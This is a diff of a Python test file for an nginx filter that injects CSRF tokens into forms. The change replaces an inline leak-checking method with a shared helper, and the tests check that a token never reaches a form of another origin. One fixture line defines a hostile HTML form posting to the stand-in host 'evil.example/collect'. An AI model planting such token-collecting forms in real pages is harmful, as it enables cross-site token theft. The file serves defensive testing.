@@ -16,7 +16,7 @@ HERE = os.path.dirname(os.path.abspath(__file__))
 sys.path.insert(0, HERE)
 sys.path.insert(0, os.path.join(HERE, "..", "html5lib"))
 import ngxtest as T  # noqa: E402
-import inject_diff as oracle  # noqa: E402
+from test_attacks import owners  # noqa: E402
 
 EVIL_FORM = b'<form method=post action="https://evil.example/collect"><p>device name</p>\n'
 GOOD_FRAG = b"<p>status: online</p>\n"
@@ -62,27 +62,12 @@ class FilterOrderTest(T.ProxyCase):
         self.assertEqual(r.status, 200, uri)
         return r
 
-    def judge(self, uri, out):
-        """(forms of another origin owning a token, forms of this origin owning one)."""
-        field, token = T.META_PARAM.search(out), T.META_TOKEN.search(out)
-        if field is None:
-            return [], 0
-        oracle.FIELD, oracle.TOKEN = field.group(1).decode(), token.group(1).decode()
-        oracle.SELF = "http://127.0.0.1:%d" % self.ngx.port
-        oracle.DOC_URL = oracle.SELF + uri
-        bad, good = [], 0
-        for scripting in (True, False):
-            b, g = oracle.leaks(out.decode("latin-1"), scripting, 0)
-            bad += b
-            good += g
-        return bad, good
-
     def test_included_foreign_form_never_gets_the_real_forms_token(self):
         for uri in ("/ssi/evil.html", "/addition/page.html", "/sub/page.html"):
             with self.subTest(uri):
                 r = self.get(uri)
                 self.assertIn(b"evil.example/collect", r.body, "the filter did not run")
-                bad, good = self.judge(uri, r.body)
+                bad, good = owners(self.ngx.port, uri, r.body)
                 self.assertEqual(bad, [], "a token went to a form of another origin")
                 hidden, meta = T.count_injected(r.body)
                 self.assertEqual(hidden, 0, "a field was injected where the browser gives it to the other form")
@@ -92,13 +77,13 @@ class FilterOrderTest(T.ProxyCase):
             with self.subTest(uri):
                 r = self.get(uri)
                 self.assertIn(b"status: online", r.body)
-                bad, good = self.judge(uri, r.body)
+                bad, good = owners(self.ngx.port, uri, r.body)
                 self.assertEqual((bad, good), ([], 2), "the real form lost its token")
 
     def test_gunzipped_upstream_is_injected_and_gzip_still_compresses(self):
         r = self.get("/gz/page.html")
         self.assertIsNone(r.header("content-encoding"))
-        bad, good = self.judge("/gz/page.html", r.body)
+        bad, good = owners(self.ngx.port, "/gz/page.html", r.body)
         self.assertEqual((bad, good), ([], 2))
 
 
